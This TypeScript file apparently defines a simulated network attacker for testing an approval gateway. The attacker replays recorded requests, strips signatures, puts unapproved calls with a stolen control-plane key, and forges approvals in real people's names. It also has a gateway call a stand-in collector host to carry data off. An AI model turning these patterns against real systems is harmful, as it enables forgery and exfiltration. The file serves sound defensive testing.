/** Somebody on the network who records, replays and forges, at times with a stolen key. */
import { generateKeyPairSync } from 'node:crypto';
import { signStatement } from '../../lib/approval/statement.ts';
import { gatewayClient } from '../../lib/gateway/client.ts';
import { callKey } from '../../lib/gateway/keys.ts';
import type { Gateway } from '../../lib/gateway/protocol.ts';
import type { Http, HttpRequest } from '../../lib/http.ts';
import { CONTROL_PLANE } from '../../lib/worker.ts';
import { planOf } from './monitor.ts';
import type { Sim } from './sim.ts';

export interface Attacker {
  /** Stands on the line and records what passes. */
  readonly tap: (http: Http) => Http;
  live(sim: Sim, done: () => boolean): Promise<void>;
}

/** How many messages are kept for replaying. */
const KEPT = 200;

export function openAttacker(): Attacker {
  const seen: HttpRequest[] = [];
  return {
    tap: (http) => (request) => {
      if (request.method !== 'GET') seen.push(request);
      if (seen.length > KEPT) seen.shift();
      return http(request);
    },
    live: async (sim, done) => {
      while (!done()) {
        await sim.time.sleep(sim.chance.between(20_000, 240_000));
        if (done()) return;
        const attack = sim.chance.oneOf([replay, unsigned, unapproved, forged, carryOff]);
        await attack(sim, seen).catch(() => undefined);
      }
    },
  };
}

async function replay(sim: Sim, seen: readonly HttpRequest[]): Promise<void> {
  if (seen.length === 0) return;
  sim.note('attacker: replays a message');
  await sim.toGateways(sim.chance.oneOf(seen));
}

async function unsigned(sim: Sim, seen: readonly HttpRequest[]): Promise<void> {
  if (seen.length === 0) return;
  sim.note('attacker: sends a message without its signature');
  const { headers, ...request } = sim.chance.oneOf(seen);
  await sim.toGateways({ ...request, headers: { 'content-type': headers['content-type'] ?? '' } });
}

/** With the control plane's key: a call of a plan that nobody approved yet, or all of them. */
async function unapproved(sim: Sim): Promise<void> {
  for (const run of sim.runs) {
    const events = await sim.events(run);
    const plan = await planOf(sim, events);
    const hash = events.find((event) => event.type === 'plan.resolved')?.data.planHash;
    if (plan === undefined || hash === undefined) continue;
    const complete = events.some(({ type }) => type === 'approval.complete');
    const call = plan.calls.find(({ phase }) => phase === 'forward');
    if (complete || call === undefined) continue;
    sim.note('attacker: puts an unapproved call with the stolen key');
    const attempt = 1;
    const putBy = sim.time.now() + 30_000;
    const key = callKey({ run: plan.run, callId: call.id, attempt });
    await gateway(sim, call.site).put(key, {
      planHash: hash,
      callId: call.id,
      attempt,
      epoch: 1,
      putBy,
    });
  }
}

/** Approvals in the names of real people, signed by a key that nobody trusts. */
async function forged(sim: Sim): Promise<void> {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
  const pem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  for (const run of sim.runs) {
    const events = await sim.events(run);
    const plan = await planOf(sim, events);
    const planHash = events.find((event) => event.type === 'plan.resolved')?.data.planHash;
    if (plan === undefined || planHash === undefined) continue;
    const complete = events.some(({ type }) => type === 'approval.complete');
    const call = plan.calls.find(({ phase }) => phase === 'forward');
    if (complete || call === undefined) continue;
    sim.note('attacker: forges approvals');
    const approvers = sim.base.config.people.filter(({ roles }) =>
      roles.includes(plan.approval.role),
    );
    const statements = approvers.map(({ id }) =>
      signStatement(
        {
          v: 1,
          run,
          planHash,
          factsHash: plan.factsHash,
          decision: 'approve',
          person: id,
          role: plan.approval.role,
          class: plan.class,
          gateways: plan.sites,
          notAfter: sim.time.now() + 60_000,
          nonce: sim.chance.hex(16),
        },
        { keyId: CONTROL_PLANE, privateKey: pem },
      ),
    );
    await gateway(sim, call.site).approve({ planHash, statements });
    await unapproved(sim);
  }
}

/** With the control plane's key: has a gateway ask an address abroad, which would tell it things. */
async function carryOff(sim: Sim): Promise<void> {
  sim.note('attacker: has a gateway ask a collector abroad');
  const { id } = sim.chance.oneOf(sim.config.sites);
  await gateway(sim, id).read('probe', 'http://collector.example.com/volumes');
}

function gateway(sim: Sim, site: string): Gateway {
  return gatewayClient({
    site,
    url: sim.config.sites.find(({ id }) => id === site)?.gateway ?? '',
    http: sim.toGateways,
    signer: { keyId: CONTROL_PLANE, privateKey: sim.base.keys.controlPlane },
    gatewayKey: sim.base.keys.gateways[site] ?? '',
    clock: sim.time,
    random: sim.chance.hex,
  });
}
